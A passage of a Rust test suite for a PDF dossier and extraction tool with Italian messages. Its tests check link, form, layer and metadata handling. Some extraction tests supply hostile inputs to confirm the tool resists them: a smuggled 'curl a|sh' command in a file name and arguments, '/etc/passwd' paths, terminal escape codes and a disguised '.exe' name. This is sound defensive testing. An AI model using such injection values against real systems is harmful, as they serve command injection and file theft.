    let names = back
        .at(&["Names", "Dests", "Names"])
        .unwrap()
        .as_array()
        .unwrap();
    let target = |destination: &Object| -> lopdf::ObjectId {
        let mut destination = back.follow(destination);
        if let Ok(name) = destination.as_str() {
            let pair = names
                .chunks(2)
                .find(|pair| pair[0].as_str().unwrap() == name);
            destination = back.follow(&pair.unwrap()[1]);
        }
        if let Ok(holder) = destination.as_dict() {
            destination = back.follow(holder.get(b"D").unwrap());
        }
        destination.as_array().unwrap()[0].as_reference().unwrap()
    };
    for (page, id) in back.pages().iter().zip(pages) {
        for link in back
            .follow(page.get(b"Annots").unwrap())
            .as_array()
            .unwrap()
        {
            let link = back.follow(link).as_dict().unwrap();
            let destination = match link.get(b"A") {
                Ok(action) => back.follow(action).as_dict().unwrap().get(b"D").unwrap(),
                Err(_) => link.get(b"Dest").unwrap(),
            };
            assert_eq!(target(destination), id, "{link:?}");
        }
    }
}

#[test]
fn links_open_the_file_that_their_part_carries() {
    let carrying = |data: &str, page: &str| {
        let targets = [
            "<</R/C/N(dati.csv)/T<</R/C/N(dati.csv)/P 0>>>>",
            "<</R/C/P 0/A 0>>",
            "<</R/C/P(qui)/A 0>>",
            "<</R/C/P 1/A 0>>",
            "<</R/P/N(dati.csv)>>",
            "7 0 R",
            "<</R/C/N<feff0064006100740069002e006300730076>>>",
            "<</R/C/N(altro.csv)/P(altrove)>>",
        ];
        let links: String = targets
            .iter()
            .map(|t| format!("<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToE/D[0/Fit]/T {t}>>>>"))
            .collect();
        let outside =
            "<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoToE/F(a.pdf)/T<</R/C/N(dati.csv)>>>>>>";
        page_and(
            "/Names<</EmbeddedFiles<</Names[(dati.csv)5 0 R]>>/Dests<</Names[(qui)[3 0 R/Fit]]>>>>",
            &format!("/Annots[{links}{outside}]{page}"),
            &[
                b"<</Type/Filespec/F(dati.csv)/EF<</F 6 0 R>>>>".to_vec(),
                stream("/Type/EmbeddedFile", data.as_bytes()),
                b"<</R/C/N(dati.csv)>>".to_vec(),
            ],
        )
    };
    let (back, _) = dossier(&[&carrying("uno", ""), &carrying("due", "")]);
    let files = back.at(&["Names", "EmbeddedFiles", "Names"]).unwrap();
    let files = files.as_array().unwrap();
    let opened = |name: &str| {
        let place = files
            .iter()
            .position(|n| matches!(n, Object::String(..)) && text(n) == name);
        let file = back.follow(&files[place.unwrap() + 1]).as_dict().unwrap();
        let stream = back.follow(file.get(b"EF").unwrap()).as_dict().unwrap();
        let stream = back.follow(stream.get(b"F").unwrap()).as_stream().unwrap();
        String::from_utf8(stream.get_plain_content().unwrap()).unwrap()
    };
    for (place, page) in back.pages().into_iter().enumerate() {
        let links = back
            .follow(page.get(b"Annots").unwrap())
            .as_array()
            .unwrap();
        let targets = links.iter().map(|link| {
            let link = back.follow(link).as_dict().unwrap();
            let action = back.follow(link.get(b"A").unwrap()).as_dict().unwrap();
            back.follow(action.get(b"T").unwrap()).as_dict().unwrap()
        });
        let targets: Vec<_> = targets.collect();
        let name = |target: &lopdf::Dictionary| text(target.get(b"N").unwrap());
        for own in [0, 5, 6] {
            assert_eq!(opened(&name(targets[own])), ["uno", "due"][place]);
        }
        // What is within that file, beside this one, or in another is not the dossier's.
        let inner = back
            .follow(targets[0].get(b"T").unwrap())
            .as_dict()
            .unwrap();
        assert_eq!(name(inner), "dati.csv");
        assert_eq!(inner.get(b"P").unwrap().as_i64().unwrap(), 0);
        assert_eq!(name(targets[4]), "dati.csv");
        assert_eq!(name(targets[8]), "dati.csv");
        assert!(!targets[7].has(b"N") && !targets[7].has(b"P"));
        assert_eq!(
            targets[1].get(b"P").unwrap().as_i64().unwrap(),
            place as i64
        );
        assert_eq!(text(targets[2].get(b"P").unwrap()), ["qui", "qui-2"][place]);
        assert!(!targets[3].has(b"P"), "a page that is not of the part");
    }
}

// Forms and layers.

#[test]
fn fields_keep_their_names_fonts_and_values() {
    let form = |font: &str, extra: &str| {
        page_and(
            &format!(
                "/AcroForm<</Fields[5 0 R 6 0 R]/DA(/F 10 Tf 0 g)/DR<</Font<</F 7 0 R>>>>{extra}>>"
            ),
            "/Annots[5 0 R 6 0 R]",
            &[
                "<</FT/Tx/T(nome)/V(uno)/Subtype/Widget/Rect[0 0 9 9]/DA(/F 12 Tf 1 g)>>"
                    .to_owned(),
                "<</FT/Tx/T(altro)/Subtype/Widget/Rect[0 0 9 9]/A<</S/ResetForm/Fields[(nome)]>>>>"
                    .to_owned(),
                format!("<</Type/Font/Subtype/Type1/BaseFont/{font}>>"),
            ],
        )
    };
    let alone = form("Helvetica", "");
    let (back, said) = dossier(&[&alone, &form("Courier", "/XFA(x)/NeedAppearances true")]);
    assert!(said.contains("il modulo XFA"), "{said}");
    let form = back.dictionary(&["AcroForm"]);
    assert!(!form.has(b"XFA") && form.has(b"NeedAppearances"));
    let fields = back
        .at(&["AcroForm", "Fields"])
        .unwrap()
        .as_array()
        .unwrap();
    let mut names = Vec::new();
    for (place, field) in fields.iter().enumerate() {
        let field = back.follow(field).as_dict().unwrap();
        names.push(text(field.get(b"T").unwrap()));
        // A form of its own says it for all; here the two forms do not say the same.
        let appearance = text(field.get(b"DA").unwrap());
        let font = appearance[1..].split(' ').next().unwrap();
        let font = back.dictionary(&["AcroForm", "DR", "Font", font]);
        let wanted: &[u8] = if place < 2 { b"Helvetica" } else { b"Courier" };
        assert_eq!(font.get(b"BaseFont").unwrap().as_name().unwrap(), wanted);
        if let Ok(action) = field.get(b"A") {
            let cleared = back
                .follow(action)
                .as_dict()
                .unwrap()
                .get(b"Fields")
                .unwrap();
            assert_eq!(text(&cleared.as_array().unwrap()[0]), names[place - 1]);
        }
    }
    assert_eq!(names, ["nome", "altro", "nome-2", "altro-2"]);
    // A form that is alone stays as it was.
    let (back, _) = dossier(&[&alone, the_pira()]);
    assert!(back.dictionary(&["AcroForm"]).has(b"DA"));
    assert!(!back.dictionary(&["AcroForm", "Fields", "1"]).has(b"DA"));
}

#[test]
fn a_button_clears_and_sends_the_fields_of_its_part() {
    let actions = [
        "<</S/ResetForm>>",
        "<</S/SubmitForm/F(http://a)/Flags 5>>",
        "<</S/ResetForm/Flags 1/Fields[(nome.b)6 0 R]>>",
        "<</S/ResetForm/Fields[(altro)(assente)]>>",
        "<</S/Hide/T(altro)>>",
        "<</S/ResetForm/Flags 1/Fields[5 0 R(altro)]/Next<</S/URI/URI(http://a)>>>>",
    ];
    let links: String = actions
        .iter()
        .map(|action| format!("<</Subtype/Link/Rect[0 0 9 9]/A{action}>>"))
        .collect();
    let form = page_and(
        "/AcroForm<</Fields[5 0 R 6 0 R]>>",
        &format!("/Annots[{links}]"),
        &[
            "<</T(nome)/Kids[7 0 R 8 0 R]>>",
            "<</FT/Tx/T(altro)/V(x)>>",
            "<</FT/Tx/T(a)/Parent 5 0 R>>",
            "<</FT/Tx/T(b)/Parent 5 0 R>>",
        ],
    );
    let without = page_and("", &format!("/Annots[{links}]"), &[""; 0]);
    // The names of the fields that each action of a page names, or what it does instead.
    let named = |back: &Back, page: usize| -> Vec<String> {
        let annotations = back.follow(back.pages()[page].get(b"Annots").unwrap());
        let annotations = annotations.as_array().unwrap().iter();
        let named = annotations.map(|link| {
            let action = back.follow(link).as_dict().unwrap().get(b"A").unwrap();
            let action = back.follow(action).as_dict().unwrap();
            let kind = action.get(b"S").unwrap().as_name().unwrap();
            if kind == b"Named" {
                assert!(!action.has(b"Fields") && !action.has(b"F"));
                return "nothing".to_owned();
            }
            let Ok(fields) = action.get(b"Fields").or(action.get(b"T")) else {
                return "all".to_owned();
            };
            let fields = fields
                .as_array()
                .map_or(std::slice::from_ref(fields), Vec::as_slice);
            let names = fields.iter().map(|field| match back.follow(field) {
                Object::Dictionary(field) => text(field.get(b"T").unwrap()),
                name => format!("({})", text(name)),
            });
            let flags = action
                .get(b"Flags")
                .map_or(0, |flags| flags.as_i64().unwrap());
            format!("{} {flags}", names.collect::<Vec<_>>().join(" "))
        });
        named.collect()
    };
    let (back, _) = dossier(&[&form, &form]);
    let own = [
        "nome altro 0",
        "nome altro 4",
        "a 0",
        "(altro) 0",
        "(altro) 0",
        "nothing",
    ];
    assert_eq!(named(&back, 0), own);
    let own = [
        "nome-2 altro-2 0",
        "nome-2 altro-2 4",
        "a 0",
        "(altro-2) 0",
        "(altro-2) 0",
        "nothing",
    ];
    assert_eq!(named(&back, 1), own);
    let (back, _) = dossier(&[&form, &without]);
    assert_eq!(
        named(&back, 0)[..2],
        ["all", "all"],
        "nobody else has fields"
    );
    assert_eq!(named(&back, 1), ["nothing"; 6]);
}

#[test]
fn layers_are_shown_and_hidden_as_in_their_part() {
    let layers = |base: &str| {
        page_and(
            &format!("/OCProperties<</OCGs[5 0 R 6 0 R]/D<<{base}>>>>"),
            "",
            &["<</Type/OCG/Name(a)>>", "<</Type/OCG/Name(b)>>"],
        )
    };
    let shown = |parts: &[&[u8]]| {
        let (back, _) = dossier(parts);
        let off = back.at(&["OCProperties", "D", "OFF"]);
        let off = off.map_or(Vec::new(), |off| off.as_array().unwrap().clone());
        assert!(!back.dictionary(&["OCProperties", "D"]).has(b"BaseState"));
        let groups = back
            .at(&["OCProperties", "OCGs"])
            .unwrap()
            .as_array()
            .unwrap();
        groups
            .iter()
            .map(|group| !off.contains(group))
            .collect::<Vec<_>>()
    };
    let all_off = layers("/BaseState/OFF/ON[6 0 R]");
    let one_off = layers("/OFF[5 0 R]");
    assert_eq!(shown(&[&all_off, &one_off]), [false, true, false, true]);
    assert_eq!(shown(&[&one_off, &all_off]), [false, true, false, true]);
    assert_eq!(shown(&[&layers(""), &all_off]), [true, true, false, true]);
    assert_eq!(
        shown(&[&plain(), &layers("/BaseState/Unchanged/OFF[6 0 R]")]),
        [true, false]
    );
}

// Texts, numbers, identity, what is told.

#[test]
fn titles_print_as_they_were_typed() {
    // An en dash, an apostrophe and the euro in the encoding of PDF; what XML cannot say.
    let titled = |title: &[u8], date: &str| {
        let mut objects = one_page("", "");
        let mut info = b"<</Title(".to_vec();
        info.extend(title);
        info.extend(format!(")/ModDate({date})>>").bytes());
        objects.push(info);
        pdf_with_trailer(&objects, "/Info 5 0 R")
    };
    let part = titled(b"Preventivo 2027 \x85 l\x90ente, 10 \xa0", "D:20269999");
    let (back, _) = dossier(&[&part, the_pira()]);
    let title = back
        .dictionary(&["Outlines", "First"])
        .get(b"Title")
        .unwrap();
    assert_eq!(text(title), "Preventivo 2027 – l’ente, 10 €");
    let metadata = |back: &Back| {
        let metadata = back.at(&["Metadata"]).unwrap().as_stream().unwrap();
        String::from_utf8(metadata.content.clone()).unwrap()
    };
    assert!(metadata(&back).contains("Preventivo 2027 – l’ente, 10 €"));
    assert!(!metadata(&back).contains("9999"));
    let part = titled(b"\xfe\xff\x00A\xff\xff\x00B\xff\xfe", "D:20261301");
    let written = metadata(&dossier(&[&part, the_pira()]).0);
    assert!(
        !written.contains(['\u{ffff}', '\u{fffe}']) && written.contains("A B"),
        "{written}"
    );
    assert!(!written.contains("2026-13"));
}

#[test]
fn numbers_keep_all_their_digits() {
    let part = page_and(
        "",
        "/UserUnit 1.000000123/Foo[-0.123456789 +.50 1234567.89 5.]",
        &[""; 0],
    );
    let folder = folder(&[("parte.pdf", &part)]);
    pira(
        folder.path(),
        &["allega", "--a", "parte.pdf", "pira.pdf", "-o", "f.pdf"],
    )
    .riesce();
    let bytes = fs::read(folder.path().join("f.pdf")).unwrap();
    let mut document = lopdf::Document::load_mem(&bytes).unwrap();
    let packed: Vec<u8> = document
        .objects
        .values_mut()
        .filter_map(|object| object.as_stream().ok())
        .filter(|stream| stream.dict.has_type(b"ObjStm"))
        .flat_map(|stream| stream.decompressed_content().unwrap())
        .collect();
    let written = String::from_utf8_lossy(&packed).into_owned();
    assert!(written.contains("/UserUnit 1.000000123"));
    assert!(written.contains("[-0.123456789 0.5 1234567.89 5.0]"));
    // Packed objects too: the dossier is a part in its turn.
    let again = ["allega", "--a", "f.pdf", "pira.pdf", "-o", "g.pdf"];
    pira(folder.path(), &again).riesce();
    let bytes = fs::read(folder.path().join("g.pdf")).unwrap();
    let document = lopdf::Document::load_mem(&bytes).unwrap();
    let packed: Vec<u8> = document
        .objects
        .values()
        .filter_map(|object| object.as_stream().ok())
        .filter(|stream| stream.dict.has_type(b"ObjStm"))
        .flat_map(|stream| stream.decompressed_content().unwrap())
        .collect();
    assert!(String::from_utf8_lossy(&packed).contains("[-0.123456789 0.5 1234567.89 5.0]"));
}

#[test]
fn numbers_that_every_reader_understands_are_no_damage() {
    let odd = "[123456789012345678901234567890 -123456789012345678901234567890 --5 ---2.5 . - -. 7 (--5)/--5]";
    // In a dictionary, in the one of a stream, in an object of its own.
    let mut objects = one_page("", &format!("/Foo{odd}/Bar 5 0 R/Baz 6 0 R"));
    objects[3] = stream(&format!("/Foo{odd}"), b"0 0 1 rg --5 . 100 100 re f");
    objects.push(b"--7".to_vec());
    objects.push(odd.as_bytes().to_vec());
    let file = pdf(&objects);
    // Places are counted from the header, which need not be the first byte.
    for before in [&b""[..], b"\n\n"] {
        let (back, _) = dossier(&[&[before, &file].concat(), &plain()]);
        let page = back.pages()[0];
        let content = back.follow(page.get(b"Contents").unwrap());
        let content = content.as_stream().unwrap();
        assert_eq!(content.content, b"0 0 1 rg --5 . 100 100 re f");
        assert_eq!(page.get(b"Bar").unwrap().as_i64().unwrap(), -7);
        for holder in [
            page.get(b"Foo").unwrap(),
            page.get(b"Baz").unwrap(),
            content.dict.get(b"Foo").unwrap(),
        ] {
            let items = back.follow(holder).as_array().unwrap();
            let numbers: Vec<f32> = items.iter().map_while(|n| n.as_float().ok()).collect();
            let largest = 2_147_483_647.0;
            assert_eq!(
                numbers,
                [largest, -largest, -5.0, -2.5, 0.0, 0.0, 0.0, 7.0],
                "{items:?}"
            );
            assert_eq!(text(&items[8]), "--5", "a text is what it was");
            assert_eq!(items[9].as_name().unwrap(), b"--5");
        }
    }
    // What readers do not read alike is still a damage.
    for wrong in ["[1 2", "<</A>>", "[-+5x]"] {
        let file = page_and("", &format!("/Foo 5 0 R/A{wrong}"), &[""; 0]);
        let (run, _folder) = join(&[&file, &plain()]);
        run.fallisce(1).dice("non si legge");
    }
}

#[test]
fn two_dossiers_that_differ_have_two_identifiers() {
    let identifier = |content: &[u8]| {
        let mut objects = one_page("", "");
        objects[3] = stream("", content);
        let (back, _) = dossier(&[&pdf(&objects), the_pira()]);
        let id = back.0.trailer.get(b"ID").unwrap().as_array().unwrap()[0].clone();
        id.as_str().unwrap().to_vec()
    };
    let one = identifier(b"0 0 0 rg");
    assert_eq!(one, identifier(b"0 0 0 rg"));
    assert_ne!(one, identifier(b"0 0 1 rg"));
}

#[test]
fn what_a_dossier_has_no_place_for_is_told_once() {
    let part = page_and(
        "/OpenAction[3 0 R/Fit]/AA<<>>/URI<</Base(http://a)>>/Threads[]/Collection<<>>\
         /Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>",
        "",
        &[""; 0],
    );
    let (_, said) = dossier(&[&part, the_pira()]);
    let told = "di parte-0.pdf non passano nel fascicolo: l'azione all'apertura, le azioni del documento, \
                l'indirizzo di base dei collegamenti, i percorsi di lettura, l'indice del portfolio, \
                il JavaScript del documento";
    assert_eq!(said.matches(told).count(), 1, "{said}");
    assert!(!said.contains("di parte-1.pdf non"), "{said}");
}

#[test]
fn what_is_said_of_a_document_and_does_not_pass_is_told() {
    let told = |catalogue: &str, page: &str, information: &str| {
        let mut objects = one_page(catalogue, page);
        objects.push(b"<</N 5 0 R/V 5 0 R/P 3 0 R/T 6 0 R/Type/Bead>>".to_vec());
        objects.push(b"<</F 5 0 R/Type/Thread>>".to_vec());
        objects.push(format!("<<{information}>>").into_bytes());
        let part = pdf_with_trailer(&objects, "/Info 7 0 R");
        let (back, said) = dossier(&[&part, the_pira()]);
        let said = said.lines().find(|line| line.contains("nel fascicolo:"));
        let said = said.map(|line| line.trim_start_matches("avviso: di parte-0.pdf non "));
        (back, said.unwrap_or_default().to_owned())
    };
    let of = |catalogue: &str, information: &str| told(catalogue, "", information).1;
    let nothing = "/Title(T)/Author(A)/Producer(P)/Creator(C)/ModDate(D:2026)/Trapped/False";
    assert_eq!(of("", nothing), "");
    assert_eq!(of("", "/Subject( )/Keywords()/Protocollo null"), "");
    let one = "passa nel fascicolo: l'azione all'apertura";
    assert_eq!(of("/OpenAction[3 0 R/Fit]", ""), one);
    let one = "passano nel fascicolo: le parole chiave";
    assert_eq!(of("", "/Keywords(a)"), one);
    let one = "passa nel fascicolo: la proprietà “Protocollo”";
    assert_eq!(of("", "/Protocollo(N. 123/2026)"), one);
    assert_eq!(
        of("", "/Subject(a)/Protocollo(1)/Anno 2026"),
        "passano nel fascicolo: l'oggetto del documento, le proprietà “Protocollo”, “Anno”"
    );
    let many: String = (0..20).map(|n| format!("/P{n}(x)")).collect();
    let said = of("", &many);
    assert!(
        said.contains("le sue 20 proprietà, tra cui “P0”, “P1”") && !said.contains("P19"),
        "{said}"
    );
    // Signs that a terminal would obey are not shown.
    assert!(!of("", "/A#1b#5b2J(x)").contains('\u{1b}'));
    let usual = "/ViewerPreferences<</DisplayDocTitle true/Direction/L2R/HideMenubar false>>";
    assert_eq!(of(&format!("{usual}/PageLayout/SinglePage"), ""), "");
    assert_eq!(
        of(
            "/ViewerPreferences<</DisplayDocTitle true/Duplex/Simplex>>/PageLayout/TwoColumnLeft\
             /DPartRoot<<>>/Names<</AP<</Names[]>>>>",
            ""
        ),
        "passano nel fascicolo: la disposizione delle pagine sullo schermo, \
         la suddivisione in parti (DPart), le preferenze di visualizzazione, gli aspetti con un nome"
    );
    let (back, said) = told("/Threads[6 0 R]", "/B[5 0 R]/DPart 6 0 R", "");
    assert_eq!(said, "passano nel fascicolo: i percorsi di lettura");
    assert!(!back.pages()[0].has(b"B") && !back.pages()[0].has(b"DPart"));
    let leftover = |object: &Object| {
        let dictionary = object.as_dict();
        dictionary.is_ok_and(|d| d.has_type(b"Bead") || d.has_type(b"Thread"))
    };
    assert!(!back.0.objects.values().any(leftover));
}

#[test]
fn large_streams_pass_through_unchanged() {
    let data: Vec<u8> = (0..3_000_000_u32)
        .map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let part = page_and("", "", &[stream("/Foo/Bar", &data)]);
    let mut objects = one_page("", "/Resources<</XObject<</X 5 0 R>>>>");
    objects.push(stream("/Subtype/Image", &data));
    let other = pdf(&objects);
    let (back, _) = dossier(&[&part, &other, the_pira()]);
    let image = back.pages()[1].get(b"Resources").unwrap();
    let image = back
        .follow(image)
        .as_dict()
        .unwrap()
        .get(b"XObject")
        .unwrap();
    let image = back.follow(image).as_dict().unwrap().get(b"X").unwrap();
    assert!(back.follow(image).as_stream().unwrap().content == data);
}

// Extraction.

#[test]
fn a_damaged_file_is_refused_and_the_others_are_given() {
    let good = b"buono".repeat(500);
    let packed = deflated(&good);
    let mut flipped = packed.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 1;
    let mut wrong_sum = packed.clone();
    *wrong_sum.last_mut().unwrap() ^= 1;
    let flate = "/Filter/FlateDecode";
    let with = |parameters: &str| format!("{flate}/Params<<{parameters}>>");
    let sum = "/CheckSum<00112233445566778899aabbccddeeff>";
    let cases: [(&str, String, &[u8]); 7] = [
        ("capovolto", flate.to_owned(), &flipped),
        ("somma", flate.to_owned(), &wrong_sum),
        ("interrotto", flate.to_owned(), &packed[..packed.len() / 2]),
        ("non-compresso", flate.to_owned(), b"non sono compresso"),
        ("corto", with("/Size 42931"), &packed),
        ("impronta", with(sum), &packed),
        ("ascii", "/Filter/ASCIIHexDecode".to_owned(), b"61 62 6"),
    ];
    for (name, entries, data) in &cases {
        let document = carrying(&[
            ("buono.txt", &with("/Size 2500"), &packed),
            (name, entries, data),
            ("altro.txt", "", b"altro"),
        ]);
        let (run, folder) = extract(&document, &[]);
        run.fallisce(1)
            .dice(&format!("“{name}” è danneggiato"))
            .dice("e: 2 file");
        assert_eq!(files(&folder.path().join("e")), ["altro.txt", "buono.txt"]);
        assert_eq!(fs::read(folder.path().join("e/buono.txt")).unwrap(), good);
    }
    let document = carrying(&[("strano", "/Filter/JBIG2Decode", b"x")]);
    let (run, folder) = extract(&document, &[]);
    run.fallisce(1)
        .dice("compresso in un modo che non conosco (JBIG2Decode)");
    assert!(!folder.path().join("e").exists());
}

#[test]
fn one_changed_bit_of_our_own_file_is_found() {
    let folder = tempfile::tempdir().unwrap();
    let plan = piano_2021();
    let command = [
        "genera",
        plan.to_str().unwrap(),
        "--con-dati",
        "-o",
        "p.pdf",
    ];
    pira(folder.path(), &command).riesce();
    let bytes = fs::read(folder.path().join("p.pdf")).unwrap();
    let document = lopdf::Document::load_mem(&bytes).unwrap();
    let plan_text = fs::read(&plan).unwrap();
    let packed = document
        .objects
        .values()
        .filter_map(|object| object.as_stream().ok())
        .find(|stream| {
            stream
                .get_plain_content()
                .is_ok_and(|data| data == plan_text)
        })
        .unwrap();
    let packed = &packed.content;
    let at = bytes
        .windows(packed.len())
        .position(|window| window == packed)
        .unwrap();
    for place in [10, packed.len() / 3, packed.len() / 2, packed.len() - 2] {
        let mut changed = bytes.clone();
        changed[at + place] ^= 4;
        let (run, folder) = extract(&changed, &[]);
        run.fallisce(1)
            .dice("“frosinone-latina-2021.yaml” è danneggiato");
        assert!(!folder.path().join("e/frosinone-latina-2021.yaml").exists());
        assert!(folder.path().join("e/indicatori.csv").exists());
    }
}

#[test]
fn every_file_has_a_place_of_its_own_on_every_system() {
    let names = [
        "A.txt",
        "a.txt",
        "a",
        "a/b",
        "c/d",
        "C",
        "e/",
        "perche\u{301}",
        "perché",
        "x\u{202e}fdp.exe",
        "COM1.txt",
        "con",
        "due  ",
        ".",
        "a\tb",
        "/etc/passwd",
        "a/./f",
    ];
    let contents: Vec<String> = names.iter().map(|name| format!("sono {name}")).collect();
    let carried: Vec<(&str, &str, &[u8])> = names
        .iter()
        .zip(&contents)
        .map(|(name, content)| (*name, "", content.as_bytes()))
        .collect();
    let (run, folder) = extract(&carrying(&carried), &[]);
    run.riesce().dice("17 file");
    let found = files(&folder.path().join("e"));
    assert_eq!(found.len(), names.len(), "{found:?}");
    let mut read: Vec<String> = found
        .iter()
        .map(|name| fs::read_to_string(folder.path().join("e").join(name)).unwrap())
        .collect();
    read.sort();
    let mut wanted = contents.clone();
    wanted.sort();
    assert_eq!(read, wanted);
    let lower: std::collections::BTreeSet<String> =
        found.iter().map(|name| name.to_lowercase()).collect();
    assert_eq!(lower.len(), found.len());
    for name in ["A.txt", "2-a.txt", "a", "2-a/b", "c/d", "2-C", "e"] {
        assert!(
            found.iter().any(|other| other == name),
            "{name} in {found:?}"
        );
    }
}

#[test]
fn thousands_of_files_of_one_name_are_all_given() {
    let many: Vec<(&str, &str, &[u8])> = vec![("uguale.txt", "", b"x"); 3000];
    let (run, folder) = extract(&carrying(&many), &[]);
    run.riesce().dice("3000 file");
    assert_eq!(files(&folder.path().join("e")).len(), 3000);
}

#[test]
fn files_that_together_are_too_large_leave_nothing_halfway() {
    use pira::fascicolo::{Extraction, ExtractionFault};
    let packed = deflated(&vec![0; 5_000_000]);
    let document = carrying(&[("zeri", "/Filter/FlateDecode", &packed)]);
    let extraction = Extraction::open("x.pdf", &document).unwrap();
    let mut written = Vec::new();
    let outcome = extraction.write_entry(&extraction.entries()[0], &mut 1_000_000, &mut written);
    assert!(
        matches!(outcome, Err(ExtractionFault::Troppi(_))),
        "{outcome:?}"
    );
    assert!(written.len() <= 1_000_000);
    // What is there and differs stops the others too.
    let document = carrying(&[("a.txt", "", b"a"), ("b.txt", "", b"b")]);
    let folder = folder(&[("x.pdf", &document)]);
    fs::create_dir(folder.path().join("e")).unwrap();
    fs::write(folder.path().join("e/b.txt"), "mio").unwrap();
    pira(folder.path(), &["estrai", "x.pdf", "-o", "e"])
        .fallisce(2)
        .dice("esiste già");
    assert_eq!(files(&folder.path().join("e")), ["b.txt"]);
    pira(folder.path(), &["estrai", "x.pdf", "-o", "x.pdf"])
        .fallisce(2)
        .dice("non è una cartella");
}

#[test]
fn files_that_an_annotation_carries_are_given_too() {
    let document = page_and(
        "",
        "/Annots[5 0 R]",
        &[
            b"<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(nota.txt)/EF<</F 6 0 R>>>>>>".to_vec(),
            stream("", b"una nota"),
            // Nothing leads to this one: it was taken away.
            b"<</Type/Filespec/F(tolto.txt)/EF<</F 6 0 R>>>>".to_vec(),
        ],
    );
    let (run, folder) = extract(&document, &[]);
    run.riesce().dice("1 file");
    assert_eq!(
        fs::read(folder.path().join("e/nota.txt")).unwrap(),
        b"una nota"
    );
}

/// The plan of 2021 in a file of a name, generated with its data.
fn generated(name: &str, options: &[&str]) -> (Esecuzione, TempDir) {
    let folder = tempfile::tempdir().unwrap();
    fs::copy(piano_2021(), folder.path().join(name)).unwrap();
    let plan = format!("./{name}");
    let command = [&["genera", &plan, "--con-dati", "-o", "p.pdf"], options].concat();
    (pira(folder.path(), &command), folder)
}

#[test]
fn the_act_is_made_again_and_compared() {
    let mut names = vec![
        "piano.yaml",
        "dell'ente.yaml",
        "$HOME.yaml",
        "a & b; c.yaml",
        "-x.yaml",
    ];
    let long = format!("{}.yaml", "p".repeat(210));
    names.push(&long);
    for name in names {
        let (run, folder) = generated(name, &["--bozza"]);
        run.riesce();
        let again = pira(folder.path(), &["estrai", "p.pdf", "-o", "e", "--rigenera"]);
        again
            .riesce()
            .dice("è identico all'originale, byte per byte");
        assert!(folder.path().join("e").join(name).exists());
        pira(folder.path(), &["estrai", "p.pdf", "-o", "e", "--rigenera"])
            .fallisce(2)
            .dice("esiste già");
    }
    let (run, folder) = generated("dell'ente.yaml", &[]);
    run.riesce();
    let typed = if cfg!(windows) {
        "\"dell'ente.yaml\""
    } else {
        r"'dell'\''ente.yaml'"
    };
    pira(folder.path(), &["estrai", "p.pdf", "-o", "e"])
        .riesce()
        .dice(typed);
}

#[test]
fn a_name_that_could_not_come_back_is_told_when_generating() {
    let long = format!("{}.yaml", "p".repeat(245));
    for name in [
        "CON.yaml",
        "piano.yaml.",
        "indicatori.csv",
        "INDICATORI.csv",
        "a\tb.yaml",
        &long,
    ] {
        let (run, folder) = generated(name, &[]);
        run.fallisce(1)
            .dice("dentro il PDF")
            .dice("dare un altro nome");
        assert!(!folder.path().join("p.pdf").exists());
    }
    // An amendment given by hand can change its name, and does.
    let folder = tempfile::tempdir().unwrap();
    let amendment = radice().join("data/esempi/variazione-1-rettifica.yaml");
    fs::copy(piano_2021(), folder.path().join("piano.yaml")).unwrap();
    fs::create_dir(folder.path().join("b")).unwrap();
    fs::copy(amendment, folder.path().join("b/PIANO.yaml")).unwrap();
    let command = [
        "genera",
        "piano.yaml",
        "--variazione",
        "b/PIANO.yaml",
        "--con-dati",
        "-o",
        "p.pdf",
    ];
    pira(folder.path(), &command).riesce();
    pira(folder.path(), &["estrai", "p.pdf", "-o", "e", "--rigenera"])
        .riesce()
        .dice("identico");
    assert!(folder.path().join("e/2-PIANO.yaml").exists());
}

#[test]
fn a_command_of_a_stranger_is_not_shown() {
    let stranger = |arguments: &[&str]| {
        let arguments =
            serde_json::json!({ "programma": "pira \u{1b}[31m", "argomenti": arguments });
        carrying(&[
            ("piano.yaml", "", b"x"),
            ("piano.yaml;curl a|sh", "", b"x"),
            ("ristampa.json", "", arguments.to_string().as_bytes()),
        ])
    };
    for arguments in [
        &["genera", "piano.yaml;curl a|sh", "--con-dati"][..],
        &["genera", "altro.yaml", "--con-dati"],
        &["genera", "/etc/passwd", "--con-dati"],
        &["genera", "piano.yaml", "--con-dati", "-o", "/tmp/x"],
        &[
            "genera",
            "piano.yaml",
            "--con-dati",
            "--allegato",
            "\u{1b}[2J, b, c, 1",
        ],
        &["genera", "piano.yaml", "--con-dati", "--modelli", "altrove"],
        &["genera", "piano.yaml"],
        &["allega", "--a", "piano.yaml", "piano.yaml"],
        &["\u{1b}]0;x\u{7}"],
        &[],
    ] {
        let (run, _folder) = extract(&stranger(arguments), &[]);
        let said = run.riesce().dice("non lo mostro").errori;
        // The name of a file is shown beside the one that it was given.
        let lines = said.lines().filter(|line| !line.contains("si chiama"));
        let said: String = lines.collect();
        assert!(
            !said.contains("curl") && !said.contains('\u{1b}') && !said.contains("/etc"),
            "{said}"
        );
        let (run, folder) = extract(&stranger(arguments), &["--rigenera"]);
        run.fallisce(1);
        assert_eq!(
            files(&folder.path().join("e")).len(),
            3,
            "nothing was generated"
        );
    }
    let (run, _folder) = extract(&plain(), &["--rigenera"]);
    run.fallisce(1);
}
